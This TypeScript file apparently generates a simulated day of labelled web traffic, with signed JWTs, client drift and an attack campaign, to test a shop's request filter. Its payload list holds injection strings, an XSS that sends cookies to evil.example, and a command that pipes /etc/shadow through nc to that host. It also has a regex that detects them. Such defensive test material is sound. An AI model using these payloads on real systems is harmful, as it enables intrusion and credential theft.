import { type JWTPayload, SignJWT } from "jose";
import type { EvaluationRequest } from "../../scripts/core.ts";
import type { Random } from "../harness/random.ts";
import { daySecret, webWorkload } from "./day-policy.ts";

export interface DayRequest {
  /** Unix milliseconds. */
  readonly at: number;
  readonly request: EvaluationRequest;
  /** What it truly is. */
  readonly attack: boolean;
  /** What its token says; null: it has none, or one that is refused. */
  readonly claims: Readonly<Record<string, unknown>> | null;
}

export const DAY_START = Date.UTC(2026, 2, 2);
const HOUR_MS = 3_600_000;
const PRINCIPALS = 3_000;
/** How busy each hour of the day is. */
const HOURS = [2, 1, 1, 1, 1, 2, 4, 6, 8, 9, 9, 10, 9, 9, 10, 10, 9, 8, 8, 7, 6, 5, 4, 3] as const;
const CAMPAIGN_HOURS = [15, 16];
/** From here on a new version of the shop's app is out: it asks for JSON and writes by a method that no route serves. */
const DRIFT_HOUR = 12;

const words = "tea chair lamp green small large wood order parcel late broken thanks blue paper window".split(" ");
const attacks = [
  "1' UNION SELECT login, secret FROM staff-- ",
  "<script>fetch('//evil.example/'+document.cookie)</script>",
  "../../../../etc/passwd",
  "; cat /etc/shadow | nc evil.example 4444",
  "{{config.__class__.__init__.__globals__}}",
  "' OR '1'='1' -- ",
];
const risky = [
  "How do I write SELECT name FROM orders WHERE id = 7 in your report tool?",
  "the page shows <script> instead of my name, please fix",
  "my path is ../photos/tea.png and it does not load",
];

/** The model of the day: it knows attacks, and takes one of the odd but good texts for one. Millionths. */
export function dayModel(window: Uint8Array): number {
  const text = Buffer.from(window).toString("latin1");
  if (/SELECT login|<script>fetch|etc.(passwd|shadow)|__globals__|' OR '1'/.test(text)) return 985_000;
  return text.includes("SELECT name FROM") ? 990_000 : 12_000;
}

/** Requests of one day in the order of time: principals that come back, drift, a campaign of attacks, odd but good texts. */
export async function dayTraffic(random: Random, requests: number): Promise<DayRequest[]> {
  const weight = HOURS.reduce<number>((sum, hour) => sum + hour, 0);
  const tokens = new Tokens();
  const day: DayRequest[] = [];
  for (const [hour, share] of HOURS.entries()) {
    const count = Math.round((requests * share) / weight);
    const times = Array.from({ length: count }, () => DAY_START + hour * HOUR_MS + random.below(HOUR_MS)).sort(
      (a, b) => a - b,
    );
    for (const at of times) {
      const hostile = CAMPAIGN_HOURS.includes(hour) ? random.chance(35) : random.below(1000) < 4;
      day.push(hostile ? attack(random, at) : await ordinary(random, at, hour, tokens));
    }
  }
  return day;
}

function attack(random: Random, at: number): DayRequest {
  const payload = random.pick(attacks);
  const agent = ["user-agent", `scanner/${random.below(40)}`] as const;
  const request: EvaluationRequest = random.chance(50)
    ? get(`/search?q=${encodeURIComponent(payload)}`, [agent], at)
    : post(`/comments/${random.below(90)}`, `text=${encodeURIComponent(payload)}`, [agent], at);
  return { at, request, attack: true, claims: null };
}

async function ordinary(random: Random, at: number, hour: number, tokens: Tokens): Promise<DayRequest> {
  const text = random.chance(3) ? random.pick(risky) : Array.from({ length: 4 }, () => random.pick(words)).join(" ");
  const benign = { at, attack: false, claims: null };
  const principal = Math.min(random.below(PRINCIPALS), random.below(PRINCIPALS));
  const drifted = hour >= DRIFT_HOUR && random.chance(30);
  const agent = ["user-agent", drifted ? "shop-app/2.0" : "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"] as const;
  switch (random.below(12)) {
    case 0:
      return { ...benign, request: get("/healthz", [["user-agent", "probe/1"]], at) };
    case 1:
    case 2:
    case 3:
      return { ...benign, request: get(`/search?q=${encodeURIComponent(text)}`, [agent], at) };
    case 4:
    case 5:
      return {
        ...benign,
        request: post(`/comments/${random.below(90)}`, `text=${encodeURIComponent(text)}`, [agent], at),
      };
    case 6:
      return {
        ...benign,
        request: { ...get(`/orders/${random.below(5000)}`, [agent], at), peer: { uri: webWorkload } },
      };
    case 7: {
      const scope = random.chance(90) ? "orders:write" : "orders:read";
      const { bearer, claims } = await tokens.of(principal, scope, random.pick(["gold", "silver", "bronze"]), at);
      const request = post("/orders", `item=${random.pick(words)}`, [agent, bearer], at);
      return { ...benign, claims, request: drifted ? { ...request, method: "PATCH" } : request };
    }
    case 8:
      return {
        ...benign,
        request: get(random.chance(40) ? "/favicon.ico" : `/orders/${random.below(5000)}`, [agent], at),
      };
    default: {
      const late = random.chance(3) ? 2 * HOUR_MS : 0;
      const { bearer, claims } = await tokens.of(principal, "orders:read", "gold", at - late);
      return { ...benign, claims, request: get(`/orders/${random.below(5000)}`, [agent, bearer], at) };
    }
  }
}

type Header = readonly [string, string];

function get(path: string, headers: readonly Header[], at: number): EvaluationRequest {
  return { method: "GET", authority: "shop.example", path, headers: [["x-forwarded-proto", "https"], ...headers], at };
}

function post(path: string, body: string, headers: readonly Header[], at: number): EvaluationRequest {
  const form = ["content-type", "application/x-www-form-urlencoded"] as const;
  return { ...get(path, [form, ...headers], at), method: "POST", body: Buffer.from(body) };
}

/** A token lasts an hour: the same one for all of a principal's requests within it. */
class Tokens {
  readonly #known = new Map<string, string>();

  async of(principal: number, scope: string, tier: string, at: number) {
    const issued = Math.floor(at / HOUR_MS) * 3600;
    const times = { iat: issued, exp: issued + 3600 };
    const who = { iss: "https://issuer.example", aud: "orders", sub: `customer-${principal}`, scope, tier };
    const claims = { ...who, ...times };
    const name = `${principal} ${scope} ${tier} ${issued}`;
    const token = this.#known.get(name) ?? (await sign(claims));
    this.#known.set(name, token);
    return { claims, bearer: ["authorization", `Bearer ${token}`] as const };
  }
}

function sign(claims: JWTPayload): Promise<string> {
  return new SignJWT(claims).setProtectedHeader({ alg: "HS256" }).sign(new TextEncoder().encode(daySecret));
}
